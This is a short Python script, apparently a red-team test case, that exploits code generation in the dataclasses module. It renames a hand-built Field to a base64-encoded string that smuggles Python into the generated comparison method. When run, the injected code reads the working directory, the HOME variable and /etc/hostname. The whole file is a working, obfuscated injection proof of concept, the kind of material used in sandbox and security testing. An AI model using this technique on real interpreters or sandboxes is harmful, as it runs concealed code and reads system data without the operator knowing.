# family: red team, round 51a (a tool subclass of dataclasses.Field, made as a plain object, renames itself)
import base64
import dataclasses


class MyField(dataclasses.Field):
    def rename(self, value):
        self.name = value


made = MyField(0, dataclasses.MISSING, True, True, None, True, None, False)


@dataclasses.dataclass
class A:
    x: int = made


def main():
    made.rename(base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode())

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
